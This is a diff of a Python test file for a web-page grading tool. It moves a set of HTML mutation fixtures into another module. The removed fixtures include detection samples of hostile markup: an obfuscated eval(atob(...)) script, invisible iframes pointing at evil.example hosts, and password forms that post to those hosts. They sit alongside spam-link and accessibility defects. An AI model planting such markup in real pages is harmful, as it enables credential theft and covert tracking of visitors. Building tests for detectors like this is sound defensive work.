@@ -8,6 +8,7 @@ from statistics import median
 
 import pytest
 
+from devtools.mutations import COUNTED
 from pagegrade.model.report import Report
 from pagegrade.service.runs.analysis import artifacts_of_document
 from pagegrade.service.runs.evaluation import evaluate_artifacts
@@ -56,11 +57,6 @@ def report_of(html: str, headers: tuple[tuple[str, str], ...] = HEADERS) -> Repo
     return evaluate_artifacts(artifacts_of_document(html.encode("utf-8", "replace"), url=URL, headers=headers))
 
 
-def into_body(added: Callable[[int], str]) -> Callable[[str, int], str]:
-    """A mutation that adds something at the end of the body, so many times."""
-    return lambda html, count: html.replace("</body>", "".join(map(added, range(count))) + "</body>")
-
-
 def into_head(added: str) -> Callable[[str, int], str]:
     """The same at the end of the head."""
     return lambda html, count: html.replace("</head>", added * count + "</head>")
@@ -76,46 +72,6 @@ def in_texts(change: Callable[[str], str]) -> Callable[[str], str]:
     return mutate
 
 
-COUNTED: dict[str, Callable[[str, int], str]] = {
-    "hidden casino links": into_body(
-        lambda n: f"<div hidden><a href=https://c{n}.win{n}.example/>casino online {n}</a></div>"
-    ),
-    "links off the screen": into_body(
-        lambda n: (
-            f"<div style='position:absolute;left:-9999px'><a href=https://c{n}.win{n}.example/>casino {n}</a></div>"
-        )
-    ),
-    "links in the color of the page": into_body(
-        lambda n: (
-            "<div style='color:#fff;background:#fff'>"
-            f"<a style='color:#fff' href=https://c{n}.o{n}.example/>go {n}</a></div>"
-        )
-    ),
-    "images without alternatives": into_body(lambda n: f"<img src=/i{n}.png width=10 height=10>"),
-    "fields without labels": into_body(lambda n: f"<input name=f{n}>"),
-    "buttons without names": into_body(lambda _: "<button type=button></button>"),
-    "empty links": into_body(lambda n: f"<a href=/e{n}></a>"),
-    "filling text": into_body(lambda _: "<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod."),
-    "missing values": into_body(lambda _: "<p>undefined"),
-    "mojibake": into_body(lambda _: "<p>GrÃ¼ÃŸe aus MÃ¼nchen, schÃ¶ne Feiertage"),
-    "invisible text": into_body(lambda _: "<p style='color:#fff'>pond care cheap pond buy pond near me best pond"),
-    "stuffed words": into_body(lambda _: "<p>cheap pond buy pond cheap pond best pond cheap pond online pond"),
-    "warnings of PHP": into_body(
-        lambda n: f"<br><b>Warning</b>:  Undefined x in <b>/var/www/a.php</b> on line <b>{n}</b><br>"
-    ),
-    "scripts that hide what they run": into_body(lambda _: "<script>eval(atob('YWxlcnQoMSk='))</script>"),
-    "frames of others that no one sees": into_body(
-        lambda n: f"<iframe src=https://t{n}.evil.example/ width=1 height=1></iframe>"
-    ),
-    "password forms for another site": into_body(
-        lambda n: f"<form method=post action=https://e{n}.evil.example/><input type=password aria-label=P></form>"
-    ),
-    "elements for the mouse": into_body(lambda n: f"<div onclick=go()>{n}</div>"),
-    "plain http images": into_body(lambda n: f"<img alt=x width=1 height=1 src=http://img{n}.other.example/x.png>"),
-    "empty headings": into_body(lambda _: "<h2></h2>"),
-    "titles": into_head("<title>Other</title>"),
-    "noindex": into_head('<meta name="robots" content="noindex">'),
-}
 WHOLE: dict[str, Callable[[str], str]] = {
     "emptied main": lambda html: re.sub(r"<main>.*</main>", "<main></main>", html, flags=re.DOTALL),
     "filling text everywhere": in_texts(
